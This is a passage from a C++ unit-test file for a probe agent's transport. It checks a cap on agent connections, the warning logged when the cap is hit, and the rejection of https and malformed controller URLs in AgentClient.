    EXPECT_EQ(r.status, 0) << "a second connection got past the cap of 1";
    auto lines = warnLogs();
    ASSERT_EQ(lines.size(), 1u);
    EXPECT_NE(lines[0].find("1 agent connections open (the limit)"), std::string::npos) << lines[0];
    // The slot is free once the server has seen the idle connection go.
    idle.reset();
    EXPECT_TRUE(testsupport::waitUntil(
        [&] { return send(c, "GET", kAgentConfigPath).status == 200; }, milliseconds(5000)));
}

TEST_F(AgentTransport, BadListenAddressIsAClearError) {
    options.listen = "localhost:80";
    EXPECT_THROW(startServer(), std::runtime_error);
    loop.call([&] { server.reset(); });
    try {
        AgentClientOptions o;
        o.url = "https://controller:8055";
        o.vantage = "fra";
        o.key = testKey(1);
        AgentClient c(loop.io, o);
        ADD_FAILURE() << "https accepted";
    } catch (const std::runtime_error& e) {
        EXPECT_NE(std::string(e.what()).find("https is not supported"), std::string::npos);
    }
    for (std::string bad : {"ftp://x:1", "http://", "http://x:1/path", "http://x:99999", "x:1"}) {
        AgentClientOptions o;
        o.url = bad;
        o.vantage = "fra";
        o.key = testKey(1);
        EXPECT_THROW(AgentClient(loop.io, o), std::runtime_error) << bad;
    }
    for (std::string good :
         {"http://127.0.0.1:8055", "http://[::1]:8055", "http://ctl.example:1"}) {
        AgentClientOptions o;
        o.url = good;
        o.vantage = "fra";
        o.key = testKey(1);
        EXPECT_NO_THROW(AgentClient(loop.io, o)) << good;
    }
}

}  // namespace
}  // namespace probes
